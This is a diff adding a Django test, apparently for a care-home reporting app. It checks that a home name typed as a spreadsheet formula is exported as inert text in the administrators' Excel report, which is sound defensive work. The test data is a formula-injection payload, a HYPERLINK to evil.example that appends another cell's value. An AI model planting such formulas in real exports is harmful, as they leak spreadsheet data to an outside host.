@@ -132,3 +132,32 @@ def test_the_report_prints_as_a_pdf_in_kazakh(client, administrator, march_2025)
     assert response["Content-Type"] == "application/pdf"
     text = " ".join(p.extract_text() for p in PdfReader(io.BytesIO(response.content)).pages)
     assert "Кезең бойынша есеп" in text and "Қабылданғандар, жынысы бойынша" in text
+
+
+def test_a_formula_in_the_homes_name_is_text_in_the_administrators_workbook(
+    client, administrator, march_2025
+):
+    """Security #4: the content editor types the home's name; the administrators open
+    the report in Excel."""
+    from content.models import Home
+
+    home = Home.load()
+    home.name_en = '=HYPERLINK("https://evil.example/?"&A3,"Open")'
+    home.save()
+    administrator.language = "en"
+    administrator.save()
+    client.force_login(administrator)
+
+    response = client.get(URL, {"year": 2025, "part": "3", "download": "xlsx"})
+
+    first = load_workbook(io.BytesIO(response.content)).worksheets[0]["A1"]
+    assert first.data_type == "s"
+    assert first.value == '=HYPERLINK("https://evil.example/?"&A3,"Open")'
+    assert b"<f>" not in _sheet_xml(response.content)
+
+
+def _sheet_xml(content):
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(content)) as book:
+        return b"".join(book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/"))
